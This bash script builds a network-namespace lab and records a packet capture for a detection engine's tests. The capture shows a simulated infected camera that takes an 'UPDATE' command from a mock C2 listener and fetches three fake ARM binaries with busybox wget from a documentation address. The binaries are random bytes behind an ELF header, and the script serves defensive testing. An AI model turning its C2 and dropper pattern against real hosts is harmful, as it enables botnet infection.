#!/usr/bin/env bash
# Records vigil-engine/src/test/resources/captures/vigil-netns-download.pcap: an infected camera
# taking a command from its C2 server and fetching three binaries over plain HTTP from the same
# address, between network namespaces this script creates (and removes), documentation addresses only:
#
#   LAN bridge vg8d-br: router 192.168.104.1 (ns vg8d-r, dnsmasq answers DNS), camera 192.168.104.40
#                       (ns vg8d-cam); the router forwards to "outside" (ns vg8d-net): the camera's
#                       cloud 198.51.100.80 (looked up by name) and 203.0.113.90, the C2 server (a
#                       Python listener on tcp/6738) and its download server (Python's http.server on
#                       tcp/80)
#   1. the camera looks its cloud up and fetches a status page
#   2. the bot connects to 203.0.113.90:6738 by address, says what it runs on, and is told to fetch
#      three files; it fetches them with busybox wget, one after the other: 64 KB, 180 KB and 420 KB,
#      ELF executables for ARM by their first bytes (the rest random), named like the random names
#      droppers use (no extension, served as application/octet-stream, so neither the name nor the
#      content type says "binary"); it reports back on the C2 channel and hangs up
# Nothing is compressed in time: downloads follow the command within a second, as droppers do.
# Captured on the LAN bridge with a 200-byte snap length (every header whole, the bodies cut: the
# capture keeps what flow records keep, plus the HTTP heads). Needs root, iproute2, tcpdump,
# dnsmasq, busybox, python3.
set -euo pipefail
HERE=$(cd "$(dirname "$0")" && pwd)
OUT=${1:-$HERE/../vigil-engine/src/test/resources/captures/vigil-netns-download.pcap}
. "$HERE/netns-lab.sh"
lab_start vg8d-br vg8d-r vg8d-cam vg8d-net
lab_no_ipv6
lab_lan vg8d-r d8lan 02:00:5e:d8:00:01 192.168.104.1/24
lab_lan vg8d-cam d8cam 02:00:5e:d8:00:40 192.168.104.40/24
ip -n vg8d-cam route add default via 192.168.104.1
lab_wan vg8d-r d8wan 198.51.100.1/24 vg8d-net d8net 198.51.100.80/24
ip -n vg8d-r addr add 203.0.113.1/24 dev d8wan
ip -n vg8d-net addr add 203.0.113.90/24 dev d8net
# one frame per TCP segment, as a mirror port shows them (no GSO super-frames on the veths)
for l in "vg8d-r d8lan" "vg8d-cam d8cam" "vg8d-r d8wan" "vg8d-net d8net"; do ip -n ${l% *} link set ${l#* } gso_max_segs 1; done
mkdir -p "$W/www" "$W/dl" "$W/cloud"
printf '{"status":"ok"}\n' > "$W/cloud/status"
/usr/bin/python3 - "$W/dl" <<'PY'
import os, random, struct, sys
rnd = random.Random(104)
for name, size in [("t8uhn", 64_000), ("gh7x2", 180_000), ("lzzsd", 420_000)]:
    # ELF32, little-endian, EXEC, EM_ARM (40): what a per-architecture bot build starts with
    head = b"\x7fELF\x01\x01\x01\x00" + bytes(8) + struct.pack("<HHI", 2, 40, 1)
    with open(os.path.join(sys.argv[1], name), "wb") as f:
        f.write(head + bytes(rnd.getrandbits(8) for _ in range(size - len(head))))
PY
cat > "$W/c2.py" <<'PY'
import socket, time
l = socket.socket(); l.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); l.bind(("203.0.113.90", 6738)); l.listen(1)
c, _ = l.accept()
c.recv(64)
c.sendall(b"UPDATE http://203.0.113.90/t8uhn http://203.0.113.90/gh7x2 http://203.0.113.90/lzzsd\n")
c.recv(64); c.sendall(b"PING\n"); c.recv(64); c.close()
PY
cat > "$W/camera.py" <<'PY'
import random, socket, struct, subprocess, time
def lookup(name):
    q = struct.pack("!HHHHHH", random.getrandbits(16), 0x0100, 1, 0, 0, 0)
    q += b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0" + struct.pack("!HH", 1, 1)
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(2)
    u.sendto(q, ("192.168.104.1", 53)); a = u.recv(512); u.close()
    return socket.inet_ntoa(a[-4:])
c = socket.create_connection((lookup("status.camcloud.example"), 80))
c.sendall(b"GET /status HTTP/1.0\r\nHost: status.camcloud.example\r\n\r\n")
while c.recv(4096): pass
c.close(); time.sleep(2)
b = socket.create_connection(("203.0.113.90", 6738))
b.sendall(b"\x00\x00\x00\x01\x04arm7")
urls = b.recv(4096).decode().split()[1:]
for i, u in enumerate(urls):
    subprocess.run(["busybox", "wget", "-q", "-O", "/dev/null", u], check=True)
b.sendall(b"OK 3\n"); b.recv(64); time.sleep(3); b.sendall(b"PONG\n"); time.sleep(0.5); b.close()
PY
tcpdump -i vg8d-br -s 200 -U -w "$W/lan.pcap" 2>/dev/null &
TCPDUMP=$!
sleep 1
ip netns exec vg8d-net /usr/bin/python3 "$HERE/lab-web.py" 198.51.100.80:80:"$W/cloud" 203.0.113.90:80:"$W/dl" >/dev/null 2>&1 &
ip netns exec vg8d-net /usr/bin/python3 "$W/c2.py" &
ip netns exec vg8d-r dnsmasq --no-daemon --conf-file=/dev/null --no-resolv --no-hosts --interface=d8lan --bind-interfaces \
  --address=/status.camcloud.example/198.51.100.80 --pid-file="$W/dnsmasq.pid" >/dev/null 2>&1 &
sleep 1
ip netns exec vg8d-cam /usr/bin/python3 "$W/camera.py"
sleep 1
kill $TCPDUMP; wait $TCPDUMP 2>/dev/null || true
cp "$W/lan.pcap" "$OUT"
echo "wrote $OUT ($(tcpdump -r "$OUT" 2>/dev/null | wc -l) packets)"
